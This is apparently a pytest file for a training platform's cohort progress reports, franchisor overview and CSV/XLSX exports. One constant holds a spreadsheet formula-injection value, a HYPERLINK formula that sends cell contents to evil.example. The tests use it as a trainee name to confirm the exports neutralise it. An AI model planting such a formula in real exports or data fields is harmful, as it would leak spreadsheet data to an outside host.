"""Cohort progress and the franchisor's overview, checked against figures worked out by hand,
their exports, and their SQL query counts as the number of trainees grows."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select

from lms import capabilities
from lms.accounts.models import User
from lms.accounts.roles import Role
from lms.capabilities import Capability
from lms.curriculum import operations as curriculum
from lms.curriculum.models import CourseUnit, Enrolment, EnrolmentStatus, Lesson
from lms.db import utcnow
from lms.franchise import overview, progress
from lms.franchise.progress import ProgressFilters, UnitMeasure
from tests.factories import PartnerFactory, enrol_new_trainee, licensed_partner

TODAY = utcnow().date()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def lessons_by_unit(session, course) -> list[list[Lesson]]:
    units = session.scalars(
        select(CourseUnit.unit_id)
        .where(CourseUnit.course_id == course.id)
        .order_by(CourseUnit.position)
    ).all()
    return [
        list(session.scalars(select(Lesson).where(Lesson.unit_id == u).order_by(Lesson.position)))
        for u in units
    ]


def enrol(session, world, email, name, done_lessons=(), status=None, **dates):
    enrolment = enrol_new_trainee(session, world.cohort, email, name)
    for lesson in done_lessons:
        curriculum.mark_lesson_complete(session, enrolment, lesson)
    if status is not None:
        enrolment.status = status
    for key, value in dates.items():
        setattr(enrolment, key, value)
    session.commit()
    return enrolment


@pytest.fixture
def cohort_world(session):
    """Two units of two lessons each, and five trainees:

    name        lessons done          status       percent
    Amira       U1: 2, U2: 1          in progress  75
    Bethany     none                  enrolled     0
    Chloe       U1: 2, U2: 2          achieved     100
    =HYPERLINK  U1: 1                 in progress  25
    Dana        U1: 1                 withdrawn    (hidden unless asked for)
    """
    world = licensed_partner(session, seats=50)
    (u1, u2) = lessons_by_unit(session, world.course)
    enrol(session, world, "amira@example.org", "Amira Hassan", [*u1, u2[0]])
    enrol(session, world, "bethany@example.org", "Bethany Cole")
    enrol(
        session,
        world,
        "chloe@example.org",
        "Chloe Mensah",
        [*u1, *u2],
        status=EnrolmentStatus.ACHIEVED,
        achieved_at=datetime(2027, 2, 10, tzinfo=UTC),
    )
    enrol(session, world, "hyper@example.org", HYPERLINK, [u1[0]])
    dana = enrol(session, world, "dana@example.org", "Dana Nowak", [u1[0]])
    curriculum.withdraw(session, dana)
    session.commit()
    return world


def report(session, world, **filters):
    return progress.cohort_progress(session, world.cohort, ProgressFilters(**filters))


def test_progress_matches_the_hand_count(session, cohort_world):
    result = report(session, cohort_world)
    assert [(r.name, r.lessons_done, r.percent) for r in result.rows] == [
        (HYPERLINK, 1, 25),
        ("Amira Hassan", 3, 75),
        ("Bethany Cole", 0, 0),
        ("Chloe Mensah", 4, 100),
    ]
    u1, u2 = result.units
    assert (u1.lessons, u2.lessons) == (2, 2)
    assert [(t.finished, t.mean_percent) for t in result.totals] == [(2, 62), (1, 38)]
    assert result.mean_percent == 50
    assert result.status_counts[EnrolmentStatus.IN_PROGRESS] == 2
    assert "Quiz results" not in result.pending  # the quizzes capability reports it


def test_sorting_and_filtering_happen_in_the_query(session, cohort_world):
    by_progress = report(session, cohort_world, sort="progress", direction="desc")
    assert [r.name for r in by_progress.rows] == [
        "Chloe Mensah",
        "Amira Hassan",
        HYPERLINK,
        "Bethany Cole",
    ]
    everyone = report(session, cohort_world, status="all", sort="status")
    assert [r.status.value for r in everyone.rows] == [
        "enrolled",
        "in_progress",
        "in_progress",
        "achieved",
        "withdrawn",
    ]
    assert [r.name for r in report(session, cohort_world, status="withdrawn").rows] == [
        "Dana Nowak"
    ]
    assert [r.name for r in report(session, cohort_world, q="BETH").rows] == ["Bethany Cole"]


def test_unknown_query_string_values_fall_back_to_defaults():
    filters = ProgressFilters.from_args({"status": "drop table", "sort": "x", "dir": "sideways"})
    assert filters == ProgressFilters()


def test_the_page_is_sortable_filterable_and_has_charts(session, login, cohort_world):
    browser = login(cohort_world.coordinator)
    url = f"/organisations/northside/cohorts/{cohort_world.cohort.id}/progress"
    page = browser.get(url + "?sort=progress&dir=desc").get_data(as_text=True)
    assert page.index("Chloe Mensah") < page.index("Amira Hassan") < page.index("Bethany Cole")
    assert 'aria-sort="descending"' in page
    assert 'role="img"' in page
    # On a phone each trainee's row is a card, every cell under its column's name.
    assert '<table class="progress-table table--cards">' in page
    assert '<td data-label="All lessons"><progress' in page
    assert "The figures behind this chart" in page
    for column in ("Quiz results", "Portfolio", "Assessment status"):
        assert column in page
    assert "Waiting to appear here" not in page
    filtered = browser.get(url + "?status=withdrawn").get_data(as_text=True)
    assert "Dana Nowak" in filtered
    assert "Amira Hassan" not in filtered


def test_a_name_is_shown_as_text_wherever_the_row_uses_it(session, login, cohort_world):
    enrol(session, cohort_world, "eve@example.org", '<i>Eve</i> & "Co"')
    browser = login(cohort_world.coordinator)
    url = f"/organisations/northside/cohorts/{cohort_world.cohort.id}/progress"
    page = browser.get(url).get_data(as_text=True)
    shown = "&lt;i&gt;Eve&lt;/i&gt; &amp; &#34;Co&#34;"
    assert f'<th scope="row">{shown}<br><span class="muted">eve@example.org</span></th>' in page
    assert f'aria-label="{shown}: all lessons"' in page
    assert "<i>Eve</i>" not in page


def test_a_registered_measure_adds_its_column(session, cohort_world):
    def load(session, enrolment_ids, unit_ids):
        ids = session.scalars(select(Enrolment.id).where(Enrolment.id.in_(enrolment_ids)))
        return {(enrolment_id, unit_ids[0]): "Passed 8/10" for enrolment_id in ids}

    example = Capability("example", progress_columns=(UnitMeasure("example", "Example", load),))
    with capabilities.extended(example):
        result = report(session, cohort_world)
    assert result.rows[0].extras[("example", result.units[0].unit_id)] == "Passed 8/10"
    header = progress.export_header(result.units, result.measures)
    assert f"{result.units[0].code} Example" in header


def test_csv_export_is_safe_and_complete(session, login, cohort_world):
    browser = login(cohort_world.coordinator)
    url = f"/organisations/northside/cohorts/{cohort_world.cohort.id}/progress.csv?status=all"
    response = browser.get(url)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))
    assert rows[0][:3] == ["Name", "Email", "Status"]
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + HYPERLINK, "Amira Hassan", "Bethany Cole", "Chloe Mensah", "Dana Nowak"]
    chloe = rows[4]
    assert chloe[2:9] == ["Achieved", chloe[3], "2027-02-10 00:00", "", "4", "4", "100"]


def test_xlsx_export_is_safe(session, login, cohort_world):
    browser = login(cohort_world.coordinator)
    url = f"/organisations/northside/cohorts/{cohort_world.cohort.id}/progress.xlsx"
    response = browser.get(url)
    data = response.data
    response.close()
    assert response.headers["Content-Disposition"].startswith("attachment")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + HYPERLINK in names
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_rows_come_in_chunks_in_order(session, cohort_world):
    units = progress.unit_columns(session, cohort_world.cohort)
    rows = progress.iter_progress_rows(
        session, cohort_world.cohort, ProgressFilters(status="all"), units, chunk=2
    )
    assert [(row.name, row.lessons_done) for row in rows] == [
        (HYPERLINK, 1),
        ("Amira Hassan", 3),
        ("Bethany Cole", 0),
        ("Chloe Mensah", 4),
        ("Dana Nowak", 1),
    ]


def test_ten_thousand_trainees_export_as_csv(session, signed_in):
    world = licensed_partner(session, seats=20_000)
    now = utcnow()
    session.execute(
        insert(User),
        [
            {"email": f"t{i}@example.org", "display_name": f"=T{i}", "created_at": now}
            for i in range(10_000)
        ],
    )
    ids = session.scalars(select(User.id).where(User.email.like("t%@example.org"))).all()
    session.execute(
        insert(Enrolment),
        [
            {
                "user_id": i,
                "course_id": world.course.id,
                "organisation_id": world.partner.id,
                "cohort_id": world.cohort.id,
                "status": "enrolled",
                "enrolled_at": now,
            }
            for i in ids
        ],
    )
    session.commit()
    response = signed_in(world.coordinator).get(
        f"/organisations/northside/cohorts/{world.cohort.id}/progress.csv"
    )
    assert response.is_streamed
    lines = response.get_data(as_text=True).splitlines()
    assert len(lines) == 10_001
    assert all(line.startswith("'=T") for line in lines[1:])


def _grow(session, world, count: int, start: int = 0):
    (u1, _) = lessons_by_unit(session, world.course)
    for index in range(start, start + count):
        enrol(session, world, f"extra{index}@example.org", f"Extra {index}", u1[: index % 3])


def test_progress_page_query_count_stays_constant(session, signed_in, count_queries):
    world = licensed_partner(session, seats=100)
    browser = signed_in(world.coordinator)
    url = f"/organisations/northside/cohorts/{world.cohort.id}/progress?sort=progress"
    _grow(session, world, 3)
    browser.get(url)
    with count_queries() as small:
        assert browser.get(url).status_code == 200
    _grow(session, world, 30, start=3)
    with count_queries() as large:
        page = browser.get(url)
    assert "Extra 29" in page.get_data(as_text=True)
    assert large.count == small.count, large.statements


# --- the franchisor's overview --------------------------------------------------------------------


@pytest.fixture
def overview_world(session):
    """Northside: six enrolments. Three achieved after 10, 30 and 50 days; one enrolled, one in
    progress, one withdrawn. So: completion 3 of 6 = 50%, median time to award 30 days."""
    world = licensed_partner(session, seats=50)
    start = datetime(2027, 1, 1, tzinfo=UTC)
    for index, days in enumerate((10, 30, 50)):
        enrol(
            session,
            world,
            f"a{index}@example.org",
            f"A {index}",
            status=EnrolmentStatus.ACHIEVED,
            enrolled_at=start,
            achieved_at=start + timedelta(days=days),
        )
    enrol(session, world, "b@example.org", "B")
    enrol(session, world, "c@example.org", "C", status=EnrolmentStatus.IN_PROGRESS)
    curriculum.withdraw(session, enrol(session, world, "d@example.org", "D"))
    PartnerFactory(slug="harbour", name="Harbour", franchisor=world.franchisor)
    session.commit()
    return world


def test_overview_matches_the_hand_count(session, overview_world):
    result = overview.franchise_overview(session, overview_world.admin, TODAY)
    harbour, northside = result.partners
    assert northside.organisation.slug == "northside"
    assert northside.active_cohorts == 1
    assert northside.trainees == 6
    assert northside.by_status[EnrolmentStatus.ACHIEVED] == 3
    assert northside.completion_rate == 50
    assert northside.median_days_to_award == 30
    assert (harbour.trainees, harbour.completion_rate, harbour.median_days_to_award) == (
        0,
        None,
        None,
    )
    assert result.pending_metrics == []  # the assessment capability reports both
    assert all(p.organisation.slug != "elsewhere" for p in result.partners)


def test_overview_page_and_drill_down(session, login, overview_world):
    browser = login(overview_world.admin)
    page = browser.get("/admin/franchise").get_data(as_text=True)
    assert '50% <span class="muted">(3 of 6)</span>' in page
    assert "30 days" in page
    assert "None waiting" in page  # assessment backlog
    assert "No decisions yet" in page  # IQA coverage
    assert "not available yet" not in page.lower()
    assert "Elsewhere" not in page
    partner = browser.get("/organisations/northside/training").get_data(as_text=True)
    assert "Trainees by status" in partner
    assert "Spring 2027" in partner
    assert browser.get("/organisations/elsewhere/training").status_code == 404
    # The figures kept after an English view are written afresh for a Catalan reader, and
    # the capabilities' column labels with them.
    overview_world.admin.locale = "ca"
    session.commit()
    catalan = browser.get("/admin/franchise").get_data(as_text=True)
    assert "Cobertura de la verificació interna (IQA)" in catalan
    assert "Cap en espera" in catalan
    assert "Encara no hi ha decisions" in catalan
    assert "IQA coverage" not in catalan
    assert "None waiting" not in catalan


def test_a_coordinator_cannot_open_the_overview(login, overview_world):
    assert login(overview_world.coordinator).get("/admin/franchise").status_code == 403


def test_overview_query_count_stays_constant(session, signed_in, count_queries):
    """Figures worked out after a change, and figures kept since: the same number of
    statements whatever the number of trainees, and a kept figure costs none."""
    world = licensed_partner(session, seats=100)
    browser = signed_in(world.admin)

    def both():
        with count_queries() as counted:
            assert browser.get("/admin/franchise").status_code == 200
            assert browser.get("/organisations/northside/training").status_code == 200
        return counted

    _grow(session, world, 2)
    small, small_kept = both(), both()
    _grow(session, world, 25, start=2)
    large, large_kept = both(), both()
    assert large.count == small.count, large.statements
    assert large_kept.count == small_kept.count, large_kept.statements
    assert large_kept.count < large.count
    assert not any("GROUP BY enrolment.organisation_id" in s for s in large_kept.statements)


def test_assessor_only_sees_cohorts_she_is_assigned_to(session, overview_world):
    from lms.franchise.queries import visible_cohorts
    from tests.factories import member

    assessor = member(overview_world.partner, Role.ASSESSOR)
    assert visible_cohorts(session, assessor) == []
    curriculum.assign_staff(session, overview_world.cohort, assessor, "assessor")
    assert [c.id for c in visible_cohorts(session, assessor)] == [overview_world.cohort.id]


def test_a_large_cohort_is_shown_a_page_at_a_time(session, login):
    world = licensed_partner(session, seats=300)
    _grow(session, world, progress.PAGE_SIZE + 5)
    browser = login(world.coordinator)
    url = f"/organisations/northside/cohorts/{world.cohort.id}/progress"
    first = browser.get(url).get_data(as_text=True)
    assert "Page 1 of 2" in first
    assert "Previous page" not in first
    assert first.count("@example.org</span></th>") == progress.PAGE_SIZE
    second = browser.get(url + _link(first, "Next page")).get_data(as_text=True)
    assert "Page 2 of 2" in second
    assert "Next page" not in second
    assert second.count("@example.org</span></th>") == 5
    assert f"{progress.PAGE_SIZE + 5} trainees" in first
    assert f"{progress.PAGE_SIZE + 5} trainees" in second
    back = browser.get(url + _link(second, "Previous page")).get_data(as_text=True)
    assert _names(back) == _names(first)


def _link(page: str, text: str) -> str:
    """The query string of the page's link called `text`."""
    found = re.search(r'<a href="(\?[^"]*)">' + text + "</a>", page)
    assert found, text
    return html.unescape(found.group(1))


def _names(page: str) -> list[str]:
    return re.findall(r'<th scope="row">([^<]*)<br><span class="muted">', page)
